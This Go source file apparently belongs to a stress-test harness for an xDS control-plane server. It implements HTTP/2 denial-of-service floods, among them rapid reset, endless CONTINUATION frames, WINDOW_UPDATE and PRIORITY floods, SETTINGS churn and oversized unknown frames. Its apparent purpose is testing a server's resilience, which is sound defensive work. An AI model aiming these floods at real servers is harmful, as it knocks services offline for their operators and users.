package main

import (
	"encoding/binary"

	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"golang.org/x/net/http2"

	"github.com/isobar-xds/isobar/bench/internal/rawclient"
)

// frameAttacks are floods of frames of HTTP/2 other than data.
func frameAttacks() []attack {
	ask := rawclient.Framed(encoded(&discoveryv3.DiscoveryRequest{Node: node(), TypeUrl: endpointsURL, ResourceNames: []string{"checkout"}}), false)
	reset := binary.BigEndian.AppendUint32(nil, uint32(http2.ErrCodeCancel))
	return []attack{
		{name: "rapid-reset", what: "opens streams without a message and resets them without end", do: func(c *rawclient.Attacker) error {
			return again(func() error {
				for range streams {
					c.Frame(http2.FrameRSTStream, 0, c.Open(adsMethod), reset)
				}
				return c.Flush()
			})
		}},
		{name: "continuations-1-byte", what: "headers that never end, in continuations of 1 byte", do: func(c *rawclient.Attacker) error {
			c.Frame(http2.FrameHeaders, 0, 1, nil)
			return again(func() error {
				for range streams {
					c.Frame(http2.FrameContinuation, 0, 1, []byte{0x20})
				}
				return c.Flush()
			})
		}},
		{name: "continuations-empty", what: "headers that never end, in empty continuations", do: func(c *rawclient.Attacker) error {
			c.Frame(http2.FrameHeaders, 0, 1, nil)
			return again(func() error {
				for range streams {
					c.Frame(http2.FrameContinuation, 0, 1, nil)
				}
				return c.Flush()
			})
		}},
		{name: "data-empty", what: "empty data on an open stream without end", do: func(c *rawclient.Attacker) error {
			id := c.Open(adsMethod)
			if err := c.Data(id, ask, largest); err != nil {
				return err
			}
			return again(func() error {
				for range streams {
					c.Frame(http2.FrameData, 0, id, nil)
				}
				return c.Flush()
			})
		}},
		{name: "windows", what: "window updates of 1 byte without end", do: endless(http2.FrameWindowUpdate, []byte{0, 0, 0, 1})},
		{name: "priorities", what: "priorities of 1,000,000 streams that are not open", do: func(c *rawclient.Attacker) error {
			id := uint32(1)
			return again(func() error {
				for range streams {
					c.Frame(http2.FramePriority, 0, id, []byte{0, 0, 0, 0, 16})
					id = (id + 2) % 2_000_000
				}
				return c.Flush()
			})
		}},
		{name: "settings-windows", what: "1,000 streams whose windows change with each of endless settings", do: func(c *rawclient.Attacker) error {
			for range streams {
				if err := c.Data(c.Open(adsMethod), ask, largest); err != nil {
					return err
				}
			}
			return again(func() error {
				for i := range streams {
					c.Frame(http2.FrameSettings, 0, 0, binary.BigEndian.AppendUint32([]byte{0, byte(http2.SettingInitialWindowSize)}, uint32(i%2)*window))
				}
				return c.Flush()
			})
		}},
		{name: "unknown-frames", what: "frames of an unknown kind, of 16 KB", do: endless(http2.FrameType(0xbe), make([]byte, largest))},
	}
}
